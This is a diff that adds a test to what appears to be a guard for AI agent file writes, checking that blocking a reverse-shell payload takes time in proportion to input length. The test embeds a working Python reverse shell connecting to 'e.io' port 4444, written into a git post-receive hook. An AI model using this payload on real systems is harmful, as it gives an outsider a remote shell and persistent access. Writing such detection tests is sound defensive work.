@@ -36,6 +36,17 @@ def test_a_long_run_costs_time_in_proportion(evaluate: Any, shape: Callable[[str
     assert large < max(30 * small, 0.5), (small, large)
 
 
+def test_a_long_reverse_shell_costs_time_in_proportion(evaluate: Any) -> None:
+    def run(blanks: str) -> None:
+        content = f"import socket, subprocess\ns = socket.create_connection(('e.io', 4444))\n" \
+                  f"subprocess.Popen(['sh',{blanks}'-i'], stdin=s, stdout=s)\n"
+        args = {"path": "/srv/git/app.git/hooks/post-receive", "content": content}
+        assert evaluate(args, tool="write_file").block
+
+    small, large = small_and_large(run)
+    assert large < max(30 * small, 0.5), (small, large)
+
+
 def _setting(blanks: str) -> str:
     return f"echo 'PAPERLESS{'_X' * len(blanks)}_SCRIPTS_DIR_NAME=/opt/x' >> /opt/paperless/paperless.conf"
 
